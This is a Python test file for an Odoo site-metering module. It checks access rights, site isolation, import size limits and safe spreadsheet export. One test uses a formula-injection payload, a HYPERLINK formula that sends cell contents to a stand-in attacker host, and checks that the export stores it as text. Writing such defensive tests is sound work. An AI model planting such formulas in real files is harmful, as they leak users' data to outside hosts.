"""Issue 9: shared catalogues, reading checks, wizards' records and spreadsheet files,
tried with real users of two sites."""

import base64
import io
import re
import time
from datetime import date

import openpyxl

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged

from odoo.addons.site_dues.tests.xlsx import xlsx_report
from odoo.addons.site_residents.tests.common import site_user
from odoo.addons.site_residents.tests.spreadsheets import xlsx_file

from .common import APR, FEB, JAN, MAR, MeteringCase
from .test_reading_import import HEADER, LAYOUT


@tagged("post_install", "-at_install")
class TestMeteringHardening(MeteringCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.site_b = cls.env["res.company"].create({"name": "Hardening Site B", "is_site": True})

        cls.engineer_a = site_user(
            cls.env, "hd_engineer_a", "site_residents.group_site_engineer", cls.site
        )
        cls.manager_a = site_user(
            cls.env, "hd_manager_a", "site_residents.group_site_manager", cls.site
        )
        cls.colleague_a = site_user(
            cls.env, "hd_colleague_a", "site_residents.group_site_manager", cls.site
        )
        cls.admin_a = site_user(cls.env, "hd_admin_a", "site_residents.group_site_admin", cls.site)
        cls.board_a = site_user(cls.env, "hd_board_a", "site_residents.group_site_board", cls.site)
        cls.manager_b = site_user(
            cls.env, "hd_manager_b", "site_residents.group_site_manager", cls.site_b
        )
        cls.firm = cls.env["res.partner"].create({"name": "Okuma Firması", "is_company": True})

    def as_user(self, user):
        return self.env(
            user=user, context=dict(self.env.context, allowed_company_ids=user.company_ids.ids)
        )

    # --- shared catalogues ---------------------------------------------------------

    def test_meter_models_and_registers_refused_to_a_manager(self):
        meter_model = self.env.ref("site_metering.meter_model_kamstrup_multical_403")
        meter_model.action_default_registers()
        env = self.as_user(self.manager_a)
        Model = env["site.meter.model"]
        self.assertEqual(Model.browse(meter_model.id).name, meter_model.name, "read allowed")
        self.assertTrue(Model.browse(meter_model.id).register_ids.read(["factor"]))
        with self.assertRaises(AccessError):
            Model.browse(meter_model.id).write({"register_digits": 3})
        with self.assertRaises(AccessError):
            Model.create({"name": "Rogue", "manufacturer": "XXX", "kind": "heat"})
        with self.assertRaises(AccessError):
            env["site.meter.register"].browse(meter_model.register_ids[0].id).write(
                {"factor": 1000.0}
            )
        with self.assertRaises(AccessError):
            env["site.meter.register"].create(
                {"model_id": meter_model.id, "quantity": "Energy", "factor": 1000.0}
            )
        with self.assertRaises(AccessError):
            env["site.meter.register"].browse(meter_model.register_ids.ids).unlink()

    def test_meter_models_and_registers_written_by_a_site_admin(self):
        env = self.as_user(self.admin_a)
        meter_model = env["site.meter.model"].create(
            {"name": "Multical 603", "manufacturer": "KAM", "kind": "heat"}
        )
        meter_model.action_default_registers()
        self.assertEqual(len(meter_model.register_ids), 2)
        meter_model.register_ids[0].write({"factor": 0.01})
        meter_model.write({"register_digits": 8})
        meter_model.register_ids.unlink()

    def test_shared_import_profile_written_by_site_admins_only(self):
        shared = self.env["site.reading.import.profile"].create(
            dict(LAYOUT, name="Shared layout", partner_id=self.firm.id, company_id=False)
        )
        own = self.env["site.reading.import.profile"].create(
            dict(LAYOUT, name="Site A layout", partner_id=self.firm.id, company_id=self.site.id)
        )
        env = self.as_user(self.manager_a)
        Profile = env["site.reading.import.profile"]
        self.assertEqual(
            Profile.search([("partner_id", "=", self.firm.id)]), (shared | own).with_env(env)
        )
        with self.assertRaises(AccessError):
            Profile.browse(shared.id).write({"delimiter": ","})
        with self.assertRaises(AccessError):
            Profile.browse(shared.id).unlink()
        with self.assertRaises(AccessError):
            Profile.create(
                dict(LAYOUT, name="Rogue shared", partner_id=self.firm.id, company_id=False)
            )
        with self.assertRaises(AccessError):
            Profile.browse(own.id).write({"company_id": False})
        # The site's own layout stays the site's staff's to keep.
        Profile.browse(own.id).write({"delimiter": ","})
        # Saving the import's layout does not change the shared profile.
        wizard = self.import_wizard(
            self.manager_a,
            HEADER + "W-A-1;20.02.2026;105;A-1\n",
            profile_id=shared.id,
            save_profile=True,
        )
        with self.assertRaisesRegex(UserError, "only a Site Administrator"):
            wizard.action_save_profile()
        # Another site's manager sees the shared layout only.
        other = self.as_user(self.manager_b)["site.reading.import.profile"]
        self.assertEqual(other.search([("partner_id", "=", self.firm.id)]).ids, shared.ids)
        # A Site Administrator changes the shared layout.
        self.as_user(self.admin_a)["site.reading.import.profile"].browse(shared.id).write(
            {"delimiter": ","}
        )
        self.assertEqual(shared.delimiter, ",")

    # --- the reading import names no other site's meter -----------------------------

    def test_import_says_unknown_meter_for_another_sites_serial(self):
        self.env["site.meter"].create(
            {
                "serial": "W-ELSEWHERE",
                "kind": "cold_water",
                "placement": "common",
                "company_id": self.site_b.id,
            }
        )
        wizard = self.import_wizard(
            self.engineer_a,
            HEADER + "W-ELSEWHERE;20.03.2026;5;\nW-NOWHERE;20.03.2026;5;\n",
        )
        wizard.action_preview()
        messages = {line.meter_ref: line.message for line in wizard.error_line_ids}
        self.assertIn("unknown meter", messages["W-ELSEWHERE"])
        self.assertEqual(
            messages["W-ELSEWHERE"], messages["W-NOWHERE"].replace("W-NOWHERE", "W-ELSEWHERE")
        )
        self.assertNotIn("another site", wizard.summary)

    # --- reading checks: only trusted server code skips them -----------------------

    def test_context_key_does_not_skip_the_checks(self):
        self.read_all(self.water, JAN, [100, 100, 100])
        self.read_all(self.water, FEB, [110, 110, 110])
        self.read_all(self.water, MAR, [120, 121, 122])
        Reading = self.as_user(self.engineer_a)["site.meter.reading"].with_context(
            site_reading_skip_checks=True
        )
        spike = Reading.create({"meter_id": self.water[0].id, "date": APR, "value": 220})
        self.assertEqual(spike.state, "to_accept")
        self.assertIn("above_history", spike.check_codes)
        with self.assertRaisesRegex(ValidationError, "lower than the last one"):
            Reading.create({"meter_id": self.water[1].id, "date": APR, "value": 90})

    def test_replacement_and_estimate_markers_are_not_taken_from_a_caller(self):
        self.read(self.water[0], JAN, 100)
        Reading = self.as_user(self.engineer_a)["site.meter.reading"]
        for marker in ("is_initial", "is_final", "estimated"):
            with self.subTest(marker=marker), self.assertRaises(UserError):
                Reading.create(
                    {"meter_id": self.water[0].id, "date": FEB, "value": 90, marker: True}
                )
        reading = Reading.create({"meter_id": self.water[0].id, "date": FEB, "value": 110})
        with self.assertRaises(UserError):
            reading.write({"is_initial": True})
        self.assertEqual(self.water[0].last_value, 110)

    def test_replacement_and_estimate_still_record_their_readings(self):
        env = self.as_user(self.engineer_a)
        self.read_all(self.water, JAN, [100, 100, 100])
        self.read_all(self.water[:2], FEB, [110, 111])
        wizard = env["site.meter.replace.wizard"].create(
            {
                "meter_id": self.water[0].id,
                "date": MAR,
                "final_value": 115,
                "new_serial": "W-A-1-NEW",
                "initial_value": 3,
            }
        )
        action = wizard.action_replace()
        new = env["site.meter"].browse(action["res_id"])
        self.assertTrue(new.last_reading_id.is_initial)
        final = env["site.meter.reading"].search([("meter_id", "=", self.water[0].id)], limit=1)
        self.assertEqual((final.is_final, final.value), (True, 115))
        estimate = self.water[1:].with_env(env)._estimate_missing(JAN, FEB)
        self.assertEqual((estimate.meter_id, estimate.estimated), (self.water[2], True))

    def test_estimated_reading_can_be_rejected(self):
        self.read_all(self.water, JAN, [100, 100, 100])
        self.read_all(self.water[:2], FEB, [110, 112])
        estimate = self.water._estimate_missing(JAN, FEB)
        self.assertEqual(estimate.meter_id, self.water[2])
        env = self.as_user(self.engineer_a)
        form = env["site.meter.reading"].get_views([(False, "form")])["views"]["form"]["arch"]
        [button] = re.findall(r'<button name="action_reject"[^>]*>', form)
        self.assertIn("estimated", button, "the form offers to reject an estimate")
        action = estimate.with_env(env).action_reject()
        env[action["res_model"]].with_context(action["context"]).create(
            {"reason": "Read after all: 114"}
        ).action_reject()
        self.assertEqual(estimate.state, "rejected")

    # --- wizards: their records are their creator's, on the creator's sites ---------

    def assert_private(self, records):
        """Only the creator (manager_a) reads and writes ``records``."""
        for intruder in (self.colleague_a, self.manager_b):
            env = self.as_user(intruder)
            for record in records:
                with self.subTest(model=record._name, user=intruder.login):
                    with self.assertRaises(AccessError):
                        record.with_env(env).read(["display_name"])
                    with self.assertRaises(AccessError):
                        record.with_env(env).write({})
                    with self.assertRaises(AccessError):
                        record.with_env(env).unlink()

    def test_metering_wizards_are_their_creators(self):
        env = self.as_user(self.manager_a)
        self.read_all(self.water, JAN, [100, 100, 100])
        export = env["site.metering.export.wizard"].create(
            {"company_id": self.site.id, "date_from": JAN, "date_to": FEB}
        )
        action = env["site.unit.readings.wizard"]._action_for(self.u1, FEB)
        unit_readings = env["site.unit.readings.wizard"].browse(action["res_id"])
        replace = env["site.meter.replace.wizard"].create(
            {"meter_id": self.water[0].id, "final_value": 101, "new_serial": "W-NEW"}
        )
        reject = env["site.reading.reject.wizard"].create(
            {"reading_ids": [(6, 0, self.water[0].last_reading_id.ids)], "reason": "x"}
        )
        imported = self.import_wizard(self.manager_a, HEADER + "W-A-1;20.02.2026;105;A-1\n")
        imported.action_preview()
        self.assertEqual(imported.state, "preview", imported.summary)
        records = [
            export,
            unit_readings,
            unit_readings.line_ids[0],
            replace,
            reject,
            imported,
            imported.line_ids,
        ]
        for record in records:
            record.read(["display_name"])  # the creator's own
        self.assert_private(records)

    def test_unit_readings_wizard_takes_no_other_sites_meter(self):
        unit_b = self.env["site.unit"].create({"code": "B-1", "company_id": self.site_b.id})
        meter_b = self.env["site.meter"].create(
            {
                "serial": "W-B-1",
                "kind": "cold_water",
                "unit_id": unit_b.id,
                "company_id": self.site_b.id,
            }
        )
        env = self.as_user(self.manager_a)
        with self.assertRaises(UserError):
            env["site.unit.readings.wizard"].create(
                {
                    "unit_ids": [(6, 0, self.u1.ids)],
                    "line_ids": [(0, 0, {"meter_id": meter_b.id})],
                }
            ).line_ids.read(["last_value"])

    # --- exports write text as text ---------------------------------------------------

    def test_export_writes_a_formula_like_name_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
        self.building.write({"name": formula, "code": formula})
        self.read_all(self.water, JAN, [100, 100, 100])
        self.read_all(self.water, FEB, [110, 111, 112])
        wizard = self.as_user(self.board_a)["site.metering.export.wizard"].create(
            {"company_id": self.site.id, "date_from": JAN, "date_to": FEB}
        )
        _name, content = xlsx_report(
            wizard.env, "site_metering.action_report_site_consumption_xlsx", wizard
        )
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=5) if row[0].value == formula]
        self.assertTrue(cells, "the building's rows are exported")
        self.assertEqual({cell.data_type for cell in cells}, {"s"})

    # --- import files: bounded ----------------------------------------------------

    def import_wizard(self, user, content, **values):
        data = content if isinstance(content, bytes) else content.encode()
        return self.as_user(user)["site.reading.import.wizard"].create(
            dict(
                LAYOUT,
                company_id=self.site.id,
                file=base64.b64encode(data),
                filename="okuma-mart.csv",
            )
            | values
        )

    def test_xlsx_declaring_a_huge_sheet_reads_only_its_rows(self):
        self.read_all(self.water, JAN, [100, 100, 100])
        content = xlsx_file(
            [["Seri No", "Tarih", "Endeks", "Daire"]]
            + [[f"W-A-{n}", "20.02.2026", 110 + n, f"A-{n}"] for n in (1, 2, 3)],
            dimension="A1:XFD1048576",
        )
        wizard = self.import_wizard(self.engineer_a, content, file_type="xlsx", filename="big.xlsx")
        start = time.monotonic()
        rows = wizard._sheet_rows()
        self.assertEqual(len(rows), 4)
        self.assertLessEqual(max(len(row) for row in rows), 4, "no cell the file does not hold")
        wizard.action_import()
        self.assertLess(time.monotonic() - start, 10)
        self.assertEqual(wizard.state, "done", wizard.summary)
        self.assertEqual(wizard.created_count, 3)

    def test_import_refuses_more_rows_than_the_limit(self):
        self.env["ir.config_parameter"].set_param("site_residents.import_max_rows", "3")
        content = xlsx_file(
            [["Seri No", "Tarih", "Endeks", "Daire"]]
            + [[f"W-A-{n}", "20.02.2026", 110, f"A-{n}"] for n in (1, 2, 3)]
        )
        wizard = self.import_wizard(self.engineer_a, content, file_type="xlsx", filename="big.xlsx")
        with self.assertRaisesRegex(UserError, r"big\.xlsx: .*more than 3 rows"):
            wizard.action_preview()

    def test_import_refuses_a_file_over_the_size_limit(self):
        self.env["ir.config_parameter"].set_param("site_residents.import_max_bytes", "60")
        content = HEADER + "".join(f"W-A-{n};20.02.2026;110;A-{n}\n" for n in (1, 2, 3))
        wizard = self.import_wizard(self.engineer_a, content)
        with self.assertRaisesRegex(UserError, r"okuma-mart\.csv: .*limit is 60 bytes"):
            wizard.action_import()

    def test_import_keeps_the_layouts_delimiter_and_encoding(self):
        self.read_all(self.water, JAN, [100, 100, 100])
        content = "Seri No\tTarih\tEndeks\tDaire\nW-A-1\t20.02.2026\t110\tA-1\n"
        wizard = self.import_wizard(
            self.engineer_a, content.encode("cp1254"), delimiter="\\t", encoding="cp1254"
        )
        wizard.action_import()
        self.assertEqual(wizard.state, "done", wizard.summary)
        self.assertEqual(self.water[0].last_value, 110)
        self.assertEqual(date(2026, 2, 20), self.water[0].last_date)
